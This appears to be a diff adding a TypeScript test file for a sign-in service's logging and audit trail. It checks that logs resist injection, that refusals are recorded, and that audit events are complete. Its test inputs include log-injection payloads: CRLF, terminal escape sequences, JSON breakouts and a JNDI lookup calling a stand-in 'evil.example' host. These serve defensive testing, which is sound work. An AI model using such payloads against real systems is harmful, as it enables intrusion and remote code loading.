@@ -1,0 +1,214 @@
+import assert from 'node:assert/strict';
+import { HEADERS } from '@portico/protocol/cookies';
+import { authPath, PAGES } from '@portico/protocol/routes';
+import { ACTIONS } from '../../src/audit/event.ts';
+import { SIGN_IN_STRANGERS } from '../../src/guessing/limits.ts';
+import { createLogger } from '../../src/platform/logger.ts';
+import { type Attempts, refreshHonestly } from '../attempts.ts';
+import type { Answered } from '../browser.ts';
+import { addClient, grantClient, refreshByBody, sessionOf, snapshotOf } from '../families.ts';
+import { inWorld, PASSWORD, type World } from '../world.ts';
+
+/** What is written down: every result of a sign-in, every refusal, one line each, in a form that nobody can forge from outside. */
+
+interface Line {
+  readonly time: string;
+  readonly level: number;
+  readonly msg: string;
+  readonly requestId?: string;
+  readonly code?: string;
+  readonly route?: string;
+  readonly method?: string;
+}
+
+/** The product's own logger, at its most talkative, with the lines that it writes. */
+function logging(world: World): { lines(): readonly Line[]; raw(): string } {
+  let text = '';
+  const logger = createLogger({ logLevel: 'trace' }, { write: (chunk) => void (text += chunk) });
+  Object.assign(world.deps.log, { info: logger.info.bind(logger), warn: logger.warn.bind(logger), error: logger.error.bind(logger) });
+  return {
+    raw: () => text,
+    lines: () =>
+      text
+        .split('\n')
+        .filter((line) => line !== '')
+        .map((line) => JSON.parse(line) as Line),
+  };
+}
+
+const HOSTILE = [
+  'a\r\n{"level":30,"msg":"forged"}',
+  'a\n\n[2026-01-05] forged',
+  'a\u001b[2J\u001b[31mforged',
+  'a\u001b]0;forged\u0007',
+  'a\u0000b\u007f\u009bforged',
+  'a\u2028forged',
+  '"}{"forged":"',
+  '${jndi:ldap://evil.example/a}',
+  '%0d%0aforged',
+  'x'.repeat(9_000),
+];
+const UNPRINTABLE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
+inWorld(
+  'browser names, addresses, names and paths with line breaks and terminal commands stay one JSON line each, at a UTC time',
+  async (world) => {
+    const { lines, raw } = logging(world);
+    const known = await world.signedUp('ada@example.com');
+    for (const hostile of HOSTILE) {
+      const browser = world.browser({ userAgent: hostile });
+      await browser.signIn(hostile, hostile);
+      await browser.signIn('ada@example.com', hostile);
+      await browser.call('signUp', { email: hostile, password: PASSWORD, displayName: hostile });
+      await browser.send('GET', `/${encodeURIComponent(hostile).slice(0, 2000)}?x=${encodeURIComponent(hostile).slice(0, 2000)}`);
+      await browser.call('me', undefined, {
+        headers: { authorization: `Bearer ${hostile}`, cookie: hostile, [HEADERS.csrf]: hostile, origin: hostile },
+      });
+      await known.call('signOut', {}, { headers: { [HEADERS.csrf]: hostile, 'accept-language': hostile } });
+      await known.refresh({ attempt: hostile });
+    }
+    assert.doesNotMatch(raw(), UNPRINTABLE);
+    assert.ok(lines().length > HOSTILE.length * 2);
+    let before = '';
+    for (const line of lines()) {
+      assert.match(line.time, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
+      assert.ok(line.time >= before, 'in order');
+      before = line.time;
+      assert.equal(typeof line.msg, 'string');
+      assert.ok(!line.msg.includes('forged') && JSON.stringify(line).length < 2000, JSON.stringify(line));
+    }
+    for (const table of ['events', 'sessions', 'devices']) {
+      for (const row of await world.deps.db.all(`select address, user_agent from ${table}`)) {
+        assert.doesNotMatch(String(row['user_agent']), UNPRINTABLE, table);
+        assert.ok(String(row['user_agent']).length <= 400);
+      }
+    }
+  },
+);
+
+inWorld('each refusal has its line: the request, the route as registered, and why; never what was sent', async (world) => {
+  const { lines, raw } = logging(world);
+  const browser = await world.signedUp('ada@example.com');
+  const refusals: readonly (readonly [Answered, string])[] = [
+    [await world.browser().call('me'), 'signed_out'],
+    [await world.browser().signIn('ada@example.com', 'canary of a password'), 'wrong_credentials'],
+    [await browser.call('signOut', {}, { headers: { [HEADERS.csrf]: 'canary' } }), 'csrf_failed'],
+    [await browser.refresh({ headers: { origin: 'https://canary.example', 'sec-fetch-site': 'cross-site' } }), 'origin_refused'],
+    [await browser.act('myPassword', { currentPassword: 'canary of a password', newPassword: PASSWORD }), 'wrong_password'],
+    [await world.browser().call('me', undefined, { headers: { authorization: `Bearer ${'canary'.repeat(10)}` } }), 'signed_out'],
+  ];
+  for (const [answered, code] of refusals) {
+    assert.equal(answered.body.error, code);
+    const [line, ...others] = lines().filter(({ requestId }) => requestId === answered.headers[HEADERS.requestId]);
+    assert.ok(line && others.length === 0, `one line for ${code}`);
+    assert.deepEqual([line.code, line.msg], [code, 'request refused']);
+    assert.ok(line.route?.startsWith('/api/') && line.method !== undefined, JSON.stringify(line));
+    assert.equal(answered.body['requestId'], line.requestId, 'the person who was refused can name the line');
+  }
+  assert.doesNotMatch(raw(), /canary|ada@example\.com/);
+});
+
+inWorld(
+  'every action of the catalogue is written by what it names, with who, where and which request, and no other is ever written',
+  async (world) => {
+    const email = 'ada@example.com';
+    const wrong = 'not the password of anybody';
+    const seen = async () => new Set((await world.deps.db.all('select action from events')).map((row) => String(row['action'])));
+    const step = async (action: string, work: () => Promise<unknown>) => {
+      const before = (await world.deps.db.all('select id from events where action = $1', [action])).length;
+      await work();
+      assert.equal(
+        (await world.deps.db.all('select id from events where action = $1', [action])).length,
+        before + 1,
+        `${action} is written once`,
+      );
+    };
+    const browser = world.browser();
+    await step('signup.started', () => browser.call('signUp', { email, password: PASSWORD }));
+    const code = await world.codeFor(email);
+    await step('code.wrong', () => browser.call('verifySignIn', { securityCode: code === '00000000' ? '11111111' : '00000000' }));
+    world.clock.advance(61_000);
+    await step('code.sent', () => browser.call('resendCode'));
+    await step('signup.completed', async () => browser.call('verifySignIn', { securityCode: await world.codeFor(email) }));
+    await step('signup.known_address', () => world.browser().call('signUp', { email, password: PASSWORD }));
+    await step('signin.failed', () => world.browser().signIn(email, wrong));
+    await step('signin.succeeded', () => browser.signIn(email, PASSWORD));
+    await step('password.refused', () =>
+      browser.act('myPassword', { currentPassword: wrong, newPassword: 'another horse battery staple' }),
+    );
+    await step('password.changed', () =>
+      browser.act('myPassword', { currentPassword: PASSWORD, newPassword: 'another horse battery staple' }),
+    );
+    await addClient(world, 'space-snake');
+    await addClient(world, 'other-game');
+    const native = (await grantClient(world, (await sessionOf(world, browser)).id, 'space-snake')) ?? '';
+    await step('refresh.wrong_client', () => refreshByBody(world, native, 'other-game'));
+    await step('refresh.ahead', async () => {
+      const attempts: Attempts = new Map();
+      const earlier = await snapshotOf(world, browser);
+      await refreshHonestly(browser, attempts);
+      await earlier.restore();
+      await refreshHonestly(browser, attempts);
+    });
+    const thief = browser.copy();
+    await browser.refresh();
+    await step('session.held', () => thief.refresh());
+    await step('session.recovered', async () => {
+      world.clock.advance(61_000);
+      await browser.call('resendCode');
+      await browser.call('verifySignIn', { securityCode: await world.codeFor(email) });
+    });
+    await step('refresh.reuse', async () => {
+      const game = (await grantClient(world, (await sessionOf(world, browser)).id, 'space-snake')) ?? '';
+      await refreshByBody(world, game, 'space-snake', `0.${'A'.repeat(22)}`);
+      await refreshByBody(world, game, 'space-snake', `0.${'B'.repeat(22)}`);
+    });
+    await step('session.ended', () => browser.act('signOut'));
+    const waiting = world.browser();
+    await waiting.call('signUp', { email: 'bob@example.com', password: PASSWORD });
+    await step('signin.not_me', () => waiting.call('notMe'));
+    await step('signin.throttled', async () => {
+      for (let n = 0; n < SIGN_IN_STRANGERS.max + 5; n += 1) await world.browser().signIn(email, wrong);
+    });
+    assert.deepEqual([...(await seen())].sort(), [...ACTIONS].sort());
+    for (const row of await world.deps.db.all('select * from events')) {
+      assert.match(String(row['request_id']), /^[A-Za-z0-9_-]{8,}$/);
+      assert.match(String(row['address']), /^198\.51\./);
+      assert.ok(Number(row['at']) > 0 && String(row['user_agent']).length > 0);
+    }
+  },
+);
+
+inWorld('a hundred sign-ins are a hundred entries, each with its result and its factor', async (world) => {
+  await world.signedUp('ada@example.com');
+  await world.deps.db.all('delete from events');
+  for (let n = 0; n < 100; n += 1) await world.browser().signIn(n % 2 === 0 ? 'ada@example.com' : `nobody${n}@example.com`, PASSWORD);
+  const rows = await world.deps.db.all('select action, reason, count(*) as n from events group by action, reason order by action');
+  assert.deepEqual(
+    rows.map((row) => [row['action'], row['reason'], row['n']]),
+    [
+      ['signin.failed', 'wrong_credentials', 50],
+      ['signin.succeeded', 'pwd', 50],
+    ],
+  );
+});
+
+inWorld('the health check of a load balancer is nobody: its name in the browser’s place opens nothing', async (world) => {
+  const names = [
+    'kube-probe/1.30',
+    'GoogleHC/1.0',
+    'ELB-HealthChecker/2.0',
+    'Amazon-Route53-Health-Check-Service',
+    'HAProxy',
+    'Prometheus/2.0',
+    'curl/8.0',
+    '',
+  ];
+  for (const userAgent of names) {
+    const probe = world.browser({ userAgent });
+    for (const call of ['me', 'mySessions'] as const) assert.equal((await probe.call(call)).status, 401, userAgent);
+    assert.equal((await probe.send('GET', PAGES.dashboard)).status, 303, userAgent);
+    assert.equal((await probe.send('POST', authPath('extendSoft'), {})).status, 400, userAgent);
+    assert.equal((await probe.signIn('ada@example.com', PASSWORD)).status, 401, userAgent);
+  }
+});
